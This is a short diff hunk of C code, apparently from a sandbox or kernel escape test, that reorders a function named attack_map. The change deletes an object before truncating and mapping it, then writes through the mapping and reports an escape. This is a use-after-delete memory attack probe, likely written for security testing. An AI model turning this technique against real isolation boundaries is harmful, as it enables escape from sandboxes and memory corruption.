@@ -134,13 +134,14 @@ static void attack_map(void)
 	int handle = object_create(&id);
 	long at;
 
+	/* What is deleted loses its bytes, and can have others. */
+	object_delete(id);
 	gate(SYS_ftruncate, handle, ENOUGH, 0, 0, 0, 0);
 	at = gate(SYS_mmap, 0, ENOUGH, PROT_READ | PROT_WRITE, MAP_SHARED, handle, 0);
 	if (at < 0)
 		tell_result(at);
 	/* The mapping alone is left. */
 	gate(SYS_close, handle, 0, 0, 0, 0, 0);
-	object_delete(id);
 	for (unsigned long offset = 0; offset < ENOUGH; offset += 4096)
 		*(volatile char *)(at + (long)offset) = 'x';
 	tell_escape();
